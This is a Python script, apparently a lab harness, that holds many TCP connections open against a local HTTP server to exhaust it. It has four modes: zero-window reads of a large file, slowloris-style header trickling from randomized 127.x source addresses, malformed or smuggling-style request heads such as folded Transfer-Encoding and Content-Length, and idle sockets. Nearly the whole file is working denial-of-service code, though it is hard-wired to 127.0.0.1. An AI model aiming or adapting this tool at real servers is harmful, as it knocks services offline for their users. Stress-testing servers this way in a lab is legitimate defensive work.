"""Holds connections open as no client of good will does, where no tool at hand does it.

usage: hold.py zero-window|sources|odd-heads|idle PORT CONNECTIONS PER-SECOND SECONDS

    zero-window   asks for a large file with the smallest receive buffer and reads nothing
    sources       sends a byte of a request head every five seconds, each connection from its own 127.x.y.z
    odd-heads     sends what is a request, or half of one, to some servers only, and waits
    idle          sends nothing
"""
import asyncio
import random
import socket
import sys
import time


ODD_HEADS = (
    b"~GET / HTTP/1.1\r\nHost: lab\r\nX-Slow: ",
    b"A" * 30 + b" / HTTP/1.1\r\nHost: lab\r\nX-Slow: ",
    b"GET / HTTP/3.0\r\nHost: lab\r\nX-Slow: ",
    b"GET / HTTP/1.1 \r\nHost: lab\r\nX-Slow: ",
    b"GET / HTTP/1.1\r\nHost: lab\r\nTransfer-Encoding:\r\n chunked\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: lab\r\nContent-Length:\r\n 50\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: lab\r\nContent-Length: +50\r\n\r\n",
    b"GET / HTTP/1.1\nHost: lab\n\n",
    b"GET\t/\tHTTP/1.1\r\nHost: lab\r\nX-Slow: ",
)


async def hold(what, port, until):
    loop = asyncio.get_running_loop()
    while time.monotonic() < until:
        with socket.socket() as s:
            s.setblocking(False)
            try:
                if what == "zero-window":
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
                if what == "sources":
                    s.bind((f"127.{random.randrange(1, 255)}.{random.randrange(1, 255)}.{random.randrange(1, 255)}", 0))
                await asyncio.wait_for(loop.sock_connect(s, ("127.0.0.1", port)), 10)
                if what == "zero-window":
                    await loop.sock_sendall(s, b"GET /large HTTP/1.1\r\nHost: lab\r\n\r\n")
                    await ended(loop, s, until, read=False)
                elif what == "sources":
                    await loop.sock_sendall(s, b"GET / HTTP/1.1\r\nHost: lab\r\nX-Slow: ")
                    await ended(loop, s, until, send=b"a")
                elif what == "odd-heads":
                    await loop.sock_sendall(s, random.choice(ODD_HEADS))
                    await ended(loop, s, until)
                else:
                    await ended(loop, s, until)
            except (OSError, asyncio.TimeoutError):
                await asyncio.sleep(1)


async def ended(loop, s, until, send=None, read=True):
    """Returns when the other side has ended the connection, or the attack is over."""
    while time.monotonic() < until:
        await asyncio.sleep(5 if send else 1)
        if send:
            await loop.sock_sendall(s, send)
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            return
        if read:
            try:
                if not s.recv(4096):
                    return
            except BlockingIOError:
                pass


async def main(what, port, connections, rate, seconds):
    until = time.monotonic() + seconds
    holders = []
    for _ in range(connections):
        holders.append(asyncio.create_task(hold(what, port, until)))
        await asyncio.sleep(1 / rate)
        if time.monotonic() >= until:
            break
    await asyncio.sleep(max(0, until - time.monotonic()))
    for holder in holders:
        holder.cancel()


asyncio.run(main(sys.argv[1], *map(int, sys.argv[2:])))
